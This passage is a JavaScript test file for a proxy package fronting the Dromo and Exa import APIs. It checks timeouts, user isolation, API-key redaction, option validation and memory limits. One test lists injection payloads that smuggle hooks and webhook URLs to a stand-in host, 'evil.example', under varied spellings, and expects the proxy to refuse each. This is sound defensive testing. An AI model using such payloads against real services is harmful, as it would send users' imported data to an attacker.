  const head = `POST /api/dromo/headless/imports/ HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: sid=s-alice\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
  try {
    // Ten pieces 200 ms apart (2 s in all, within the 3 s): never idle for long, so it is served.
    /** @type {Array<string | number>} */
    const steady = [head];
    for (let i = 0; i < 10; i++) steady.push(body.slice((i * body.length) / 10, ((i + 1) * body.length) / 10), 200);
    // The same start, then silence: cut off once idle for 1 s, not after the whole 3 s.
    const [ok, stalled] = await Promise.all([rawRequest(srv.port, steady), rawRequest(srv.port, [head, body.slice(0, 10), 10_000])]);
    assert.equal(ok.status, 201, ok.text);
    assert.equal(stalled.status, 408, stalled.text);
    assert.ok(stalled.ms < 2_500, `the stalled body was answered after ${stalled.ms} ms`);
  } finally {
    await srv.close();
  }
});

test('a lost Exa create takes back only the caller\'s own import: another user\'s token deletes nothing', { timeout: 30_000 }, async () => {
  const exa = pkg.createProxyHandler({ provider: 'exa', apiKey: EXA_KEY, baseUrl: emu.exa, authorize, list: 'account' });
  const params = { size: URLS_CSV.length, count: 1, format: 'csv', entity: { type: 'company' } };
  const token = `tok-${Date.now()}`;
  const alices = await as(exa, 'alice', '/api/exa/v0/imports', { method: 'POST', body: { ...params, metadata: { headlessImportsToken: token } } });
  assert.equal(alices.status, 201, alices.text);
  // Bob sees Alice's token in the account-wide list, and sends it with a create that fails
  // upstream (a 500 before anything is made): the proxy looks for an import to take back.
  const listed = await as(exa, 'bob', '/api/exa/v0/imports');
  assert.ok(listed.json.data.some((/** @type {any} */ i) => i.metadata?.headlessImportsToken === token), 'the token is visible account-wide');
  try {
    await fetch(`${emu.control}/faults`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ seed: 1, rules: [{ route: 'exa.create', kind: 'status', status: 500, count: 1 }] }) });
    const failed = await as(exa, 'bob', '/api/exa/v0/imports', { method: 'POST', body: { ...params, metadata: { headlessImportsToken: token } } });
    assert.equal(failed.status, 500, failed.text);
  } finally {
    await fetch(`${emu.control}/faults`, { method: 'DELETE' });
  }
  const still = await fetch(`${emu.exa}/v0/imports/${alices.json.id}`, { headers: { 'x-api-key': EXA_KEY } });
  assert.equal(still.status, 200, "alice's import survived bob's failed create");
  assert.equal((await as(exa, 'alice', `/api/exa/v0/imports/${alices.json.id}`)).status, 200, 'and she still reaches it');
});

test('a key the API echoes in a response header, JSON-escaped or percent-encoded never reaches the browser', async () => {
  // A key with characters that JSON and URLs escape, so each form differs from the raw key.
  const SECRET = 'sk_live/Key+with="quotes"\\x';
  const u = (/** @type {string} */ s) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
  const pct = (/** @type {string} */ s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('');
  const forms = [SECRET, JSON.stringify(SECRET).slice(1, -1), JSON.stringify(SECRET).slice(1, -1).replace(/\//g, '\\/'), encodeURIComponent(SECRET), encodeURIComponent(SECRET).toLowerCase(), u(SECRET), pct(SECRET)];
  const echo = http.createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const key = String(req.headers['x-dromo-license-key']);
      res.writeHead(req.method === 'POST' ? 201 : 200, {
        'content-type': 'application/json',
        'x-request-id': `req_${key}`,
        'retry-after': key,
        'retry-after-ms': encodeURIComponent(key),
      });
      // The key as the API's JSON encoder, a URL in the answer, or a \u-escaping encoder writes it.
      const body = `{"id":"imp-echo","results":[],"count":0,"detail":${JSON.stringify(`bad key ${key}`)},"slashes":"${JSON.stringify(key).slice(1, -1).replace(/\//g, '\\/')}",` +
        `"link":"https://api.example/?key=${encodeURIComponent(key)}","lower":"${encodeURIComponent(key).toLowerCase()}","escaped":"${u(key)}","all":"${pct(key)}"}`;
      res.end(body);
    });
  });
  await new Promise((r) => echo.listen(0, '127.0.0.1', () => r(undefined)));
  const base = `http://127.0.0.1:${/** @type {any} */ (echo.address()).port}/api/v1`;
  try {
    const own = pkg.createProxyHandler({ provider: 'dromo', apiKey: SECRET, baseUrl: base, authorize });
    const account = pkg.createProxyHandler({ provider: 'dromo', apiKey: SECRET, baseUrl: base, authorize, list: 'account' });
    for (const [handler, method, p] of [[own, 'POST', '/api/dromo/headless/imports/'], [own, 'GET', '/api/dromo/headless/imports/imp-echo/'], [account, 'GET', '/api/dromo/headless/imports/']]) {
      const init = method === 'POST' ? { method, headers: { cookie: 'sid=s-alice', 'content-type': 'application/json' }, body: JSON.stringify({ schema_id: CONTACTS, original_filename: 'a.csv' }) } : { headers: { cookie: 'sid=s-alice' } };
      const res = await /** @type {any} */ (handler)(new Request(`http://app.test${p}`, init));
      const text = await res.text();
      assert.ok(res.status === 200 || res.status === 201, `${method} ${p}: ${res.status} ${text}`);
      const headers = JSON.stringify([...res.headers]);
      for (const f of forms) {
        assert.ok(!text.includes(f), `${method} ${p}: the key is in the body as ${f}`);
        assert.ok(!headers.includes(f), `${method} ${p}: the key is in a header as ${f}: ${headers}`);
      }
      assert.equal(JSON.parse(text).detail, 'bad key ***', 'the body still parses, the key replaced');
      assert.equal(res.headers.get('x-request-id'), 'req_***');
    }
  } finally {
    echo.closeAllConnections();
    await new Promise((r) => echo.close(() => r(undefined)));
  }
});

test('bad options are the package\'s ValidationError naming the option (never a plain TypeError)', () => {
  const throwing = Object.defineProperty({ provider: 'dromo' }, 'apiKey', { enumerable: true, get() { throw new Error('no'); } });
  /** @type {Array<[() => unknown, string]>} */
  const cases = [
    [() => pkg.createProxyHandler(), 'options'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, authorize: 'anyone', colour: 'red' }), 'options.colour'],
    [() => pkg.createProxyHandler(throwing), 'options.apiKey'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: '', authorize: 'anyone' }), 'options.apiKey'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY }), 'options.authorize'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, authorize: 'anyone', createsPerCaller: { creates: 0 } }), 'options.createsPerCaller'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, authorize: 'anyone', maxBytesInFlight: -1 }), 'options.maxBytesInFlight'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, authorize: 'anyone', baseUrl: 'http://api.example.com' }), 'options.baseUrl'],
    [() => pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, authorize: 'anyone', ownership: { add() {} } }), 'options.ownership.owner'],
    [() => pkg.memoryOwnershipStore({ maxImports: 0 }), 'options.maxImports'],
    [() => pkg.memoryOwnershipStore(null), 'options'],
    [() => pkg.toNodeHandler('not a handler'), 'handler'],
  ];
  for (const [fn, path] of cases) {
    assert.throws(fn, (/** @type {any} */ e) => {
      assert.ok(e instanceof pkg.ValidationError && e instanceof pkg.HeadlessImportsError, `${path}: ${e}`);
      assert.ok(!(e instanceof TypeError), path);
      assert.equal(e.code, 'validation_error');
      assert.equal(e.path, path);
      assert.ok(!e.message.includes(KEY));
      return true;
    }, path);
  }
});

test('Dromo creates: only the documented keys, and no hooks or webhook URLs in any spelling, in settings or anywhere in fields', async () => {
  /** @type {any[]} */
  const upstream = [];
  /** @type {typeof fetch} */
  const spy = (url, init) => {
    if (init?.body) upstream.push(JSON.parse(new TextDecoder().decode(/** @type {Uint8Array} */ (init.body))));
    return fetch(url, init);
  };
  // Refused creates count against the caller's create limit too: off here.
  const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy, createsPerCaller: false });
  const file = { schema_id: CONTACTS, original_filename: 'a.csv' };
  const evil = 'https://evil.example/hook';
  const field = { key: 'email', label: 'Email', type: 'string' };
  /** @type {Array<[Record<string, unknown>, number, string]>} body, status, the key named */
  const attacks = [
    [{ ...file, Hooks: { rowHooks: ['x'] } }, 403, 'Hooks'],
    [{ ...file, HOOKS: { rowHooks: ['x'] } }, 403, 'HOOKS'],
    [{ ...file, webhookUrl: evil }, 403, 'webhookUrl'],
    [{ ...file, settings: { WebhookUrl: evil } }, 403, 'settings.WebhookUrl'],
    [{ ...file, settings: { webhookURL: evil } }, 403, 'settings.webhookURL'],
    [{ ...file, settings: { webhook_url: evil } }, 403, 'settings.webhook_url'],
    [{ ...file, settings: { needs_review_webhook_url: evil } }, 403, 'settings.needs_review_webhook_url'],
    [{ ...file, settings: JSON.stringify({ webhookUrl: evil }) }, 400, 'settings'],
    [{ ...file, settings: [{ webhookUrl: evil }] }, 400, 'settings'],
    [{ ...file, settings: null }, 400, 'settings'],
    [{ original_filename: 'a.csv', fields: [field, { ...field, key: 'x', hooks: { rowHooks: ['x'] } }] }, 403, 'fields[1].hooks'],
    [{ original_filename: 'a.csv', fields: [{ ...field, validators: [{ validate: 'required', columnHook: 'x' }] }] }, 403, 'fields[0].validators[0].columnHook'],
    [{ original_filename: 'a.csv', fields: { hooks: {} } }, 400, 'fields'],
    [{ ...file, review_url: 'https://x.example/' }, 400, 'review_url'],
    [{ ...file, schemaId: CONTACTS }, 400, 'schemaId'],
  ];
  for (const [body, status, key] of attacks) {
    const r = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body });
    assert.equal(r.status, status, `${JSON.stringify(body)}: ${r.text}`);
    assert.equal(r.json.code, status === 403 ? 'proxy_forbidden_field' : 'proxy_bad_request');
    assert.equal(r.json.field, key, r.text);
    assert.ok(r.json.detail.includes(key), r.json.detail);
  }
  assert.deepEqual(upstream, [], 'none of it reached the API');
  // What the create request documents still goes through: settings, an inline schema.
  const ok = await as(dromo, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { fields: [field], settings: { importIdentifier: 'mine', title: 'Contacts' }, original_filename: 'a.csv' } });
  assert.equal(ok.status, 201, ok.text);
  // With a create option the server decides what is sent: a key of the app's own reaches it, but
  // hooks in any spelling are still refused before it runs.
  const pinned = pkg.createProxyHandler({
    provider: 'dromo', apiKey: KEY, baseUrl: emu.api, authorize, fetch: spy, createsPerCaller: false,
    create: (/** @type {any} */ p) => ({ schema_id: CONTACTS, original_filename: `${p.kind}.csv` }),
  });
  const kind = await as(pinned, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { kind: 'contacts' } });
  assert.equal(kind.status, 201, kind.text);
  assert.equal(upstream.at(-1).original_filename, 'contacts.csv');
  const hooked = await as(pinned, 'alice', '/api/dromo/headless/imports/', { method: 'POST', body: { kind: 'x', settings: { WEBHOOKURL: evil } } });
  assert.equal(hooked.status, 403);
  assert.equal(hooked.json.field, 'settings.WEBHOOKURL');
});

test('own lists: at most 25 imports and 25 upstream GETs (4 at a time) a page, ending early past 1 MiB; an import answer over 1 MiB is refused', { timeout: 60_000 }, async () => {
  // Its own emulator without rate limits: this reads the same imports many times over.
  const big = await startEmulator(['--time-scale', '0.01', '--no-rate-limit']);
  try {
    const make = async (/** @type {number} */ nameBytes) => {
      const r = await fetch(`${big.api}/headless/imports/`, {
        method: 'POST', headers: { 'x-dromo-license-key': KEY, 'content-type': 'application/json' },
        body: JSON.stringify({ schema_id: CONTACTS, original_filename: `${'n'.repeat(nameBytes)}.csv` }),
      });
      assert.equal(r.status, 201);
      return /** @type {string} */ ((await r.json()).id);
    };
    const store = pkg.memoryOwnershipStore();
    /** @type {string[]} */
    const ids = [];
    // Thirty imports whose answers are ~600 kB each (the emulator echoes the file name).
    for (let i = 0; i < 30; i++) {
      ids.push(await make(600_000));
      store.add('dromo', ids.at(-1), 'user-bob');
    }
    let inFlight = 0;
    let most = 0;
    let gets = 0;
    /** @type {typeof fetch} */
    const spy = async (url, init) => {
      gets += 1;
      most = Math.max(most, ++inFlight);
      try {
        return await fetch(url, init);
      } finally {
        inFlight -= 1;
      }
    };
    const dromo = pkg.createProxyHandler({ provider: 'dromo', apiKey: KEY, baseUrl: big.api, authorize, ownership: store, fetch: spy });
    /** @type {string[]} */
    const seen = [];
    let offset = 0;
    for (let page = 0; page < 30 && offset < 30; page++) {
      gets = 0;
      const r = await as(dromo, 'bob', `/api/dromo/headless/imports/?limit=100&offset=${offset}`);
      assert.equal(r.status, 200, r.text.slice(0, 300));
      assert.equal(r.json.count, 30);
      const n = r.json.results.length;
      assert.ok(n >= 1 && n <= 25, `page of ${n}`);
      assert.ok(gets <= 25 && gets === n, `${gets} upstream GETs for a page of ${n}`);
      assert.ok(r.text.length <= 2 ** 20 + 4 * 2 ** 20, `page of ${r.text.length} bytes`);
      // The 1 MiB mark ends the page early: 4 reads in flight when it is passed, at most.
      assert.ok(n <= Math.ceil(2 ** 20 / 600_000) + 3, `page of ${n} imports of 600 kB`);
      seen.push(...r.json.results.map((/** @type {any} */ i) => i.id));
      offset += n;
      if (offset < 30) assert.match(r.json.next, new RegExp(`offset=${offset}$`));
      else assert.equal(r.json.next, null);
    }
    assert.deepEqual([...seen].sort(), [...ids].reverse().sort(), 'every import once, by following the pages');
    assert.deepEqual(seen, [...ids].reverse(), 'newest first');
    assert.ok(most <= 4, `${most} upstream reads in flight at once`);
    // An import whose answer is over 1 MiB is not held: its read, and a page with it, are 502.
    const huge = await make(1_100_000);
    store.add('dromo', huge, 'user-bob');
    const one = await as(dromo, 'bob', `/api/dromo/headless/imports/${huge}/`);
    assert.equal(one.status, 502);
    assert.equal(one.json.code, 'proxy_upstream_invalid');
    assert.equal((await as(dromo, 'bob', '/api/dromo/headless/imports/?limit=1')).status, 502);
  } finally {
    await big.stop();
  }
});

test('answers count against the memory budget: 10 concurrent own-lists of huge imports keep the proxy within twice the cap', { timeout: 180_000 }, async () => {
  const CAP = 64 * 1024 * 1024;
  const big = await startEmulator(['--time-scale', '0.01', '--no-rate-limit']);
  const script = `
    import http from 'node:http';
    import { createProxyHandler, memoryOwnershipStore } from 'headless-imports';
    const store = memoryOwnershipStore();
    // Defaults, so the default budget (64 MiB) is what this measures.
    const proxy = createProxyHandler({ provider: 'dromo', apiKey: ${JSON.stringify(KEY)}, baseUrl: ${JSON.stringify(big.api)}, authorize: (r) => r.headers.get('x-user'), ownership: store });
    const server = http.createServer((req, res) => void proxy.node(req, res));
    server.listen(0, '127.0.0.1', () => process.send({ port: server.address().port }));
    let peak = 0;
    const sample = setInterval(() => { peak = Math.max(peak, process.memoryUsage.rss()); }, 5);
    process.on('message', (m) => {
      if (m.own) { for (const id of m.own.ids) store.add('dromo', id, m.own.user); process.send({ ok: true }); }
      if (m === 'base') { globalThis.gc?.(); process.send({ base: process.memoryUsage.rss() }); peak = 0; }
      if (m === 'peak') process.send({ peak });
      if (m === 'stop') { clearInterval(sample); server.close(); server.closeAllConnections(); process.exit(0); }
    });
  `;
  const child = spawn(process.execPath, ['--expose-gc', '--input-type=module', '-e', script], { cwd: installPackage(), stdio: ['ignore', 'inherit', 'inherit', 'ipc'] });
  const next = () => /** @type {Promise<any>} */ (new Promise((resolve) => child.once('message', resolve)));
  try {
    const { port } = await next();
    const make = async (/** @type {number} */ nameBytes) => {
      const r = await fetch(`${big.api}/headless/imports/`, {
        method: 'POST', headers: { 'x-dromo-license-key': KEY, 'content-type': 'application/json' },
        body: JSON.stringify({ schema_id: CONTACTS, original_filename: `${'n'.repeat(nameBytes)}.csv` }),
      });
      assert.equal(r.status, 201);
      const { id } = await r.json();
      return /** @type {string} */ (id);
    };
    // The trial's case: one user's 10 imports of ~7.9 MB answers each. And imports just under the
    // per-answer cap (900 kB), which the proxy does read: 20 of them.
    /** @type {Array<[string, number, number]>} user, imports, answer bytes */
    const plans = [['user-huge', 10, 7_900_000], ['user-large', 20, 900_000]];
    for (const [user, count, bytes] of plans) {
      const ids = [];
      for (let i = 0; i < count; i++) ids.push(await make(bytes));
      child.send({ own: { user, ids } });
      await next();
    }
    const list = async (/** @type {string} */ user) => {
      const r = await fetch(`http://127.0.0.1:${port}/api/dromo/headless/imports/?limit=100`, { headers: { 'x-user': user } });
      const text = await r.text();
      return { status: r.status, retryAfter: r.headers.get('retry-after'), results: r.status === 200 ? JSON.parse(text).results.length : 0 };
    };
    await list('nobody-yet'); // warm up every code path
    for (const [user, , bytes] of plans) {
      child.send('base');
      const { base } = await next();
      const results = await Promise.all(Array.from({ length: 10 }, () => list(user)));
      child.send('peak');
      const { peak } = await next();
      const growth = peak - base;
      const statuses = results.map((r) => r.status);
      console.log(`10 concurrent own-lists of ${user} (answers ${(bytes / 1e6).toFixed(1)} MB): ${statuses.join(',')}; proxy RSS ${(base / 2 ** 20).toFixed(0)} MiB -> peak ${(peak / 2 ** 20).toFixed(0)} MiB (+${(growth / 2 ** 20).toFixed(1)} MiB, cap ${CAP / 2 ** 20} MiB)`);
      // Within twice the cap: answers leave more garbage per byte than bodies do (text, parsed
      // value, page text and bytes), which the collector takes its time with. Unbounded, these
      // lists grew the proxy by 0.55 GB (0.9 MB answers) and 2 GB (7.9 MB answers).
      assert.ok(growth < 2 * CAP, `peak RSS growth ${(growth / 2 ** 20).toFixed(1)} MiB`);
      if (bytes > 1024 * 1024) {
        assert.deepEqual([...new Set(statuses)], [502], 'an answer over the per-import cap is not relayed');
      } else {
        assert.ok(statuses.every((s) => s === 200 || s === 429 || s === 503), statuses.join(','));
        assert.ok(statuses.includes(200), 'some lists were served');
        for (const r of results) if (r.status !== 200) assert.equal(r.retryAfter, '1');
        for (const r of results) assert.ok(r.results <= 25);
      }
    }
  } finally {
    child.send('stop');
    await new Promise((r) => (child.exitCode !== null ? r(undefined) : child.once('exit', r)));
    await big.stop();
  }
});
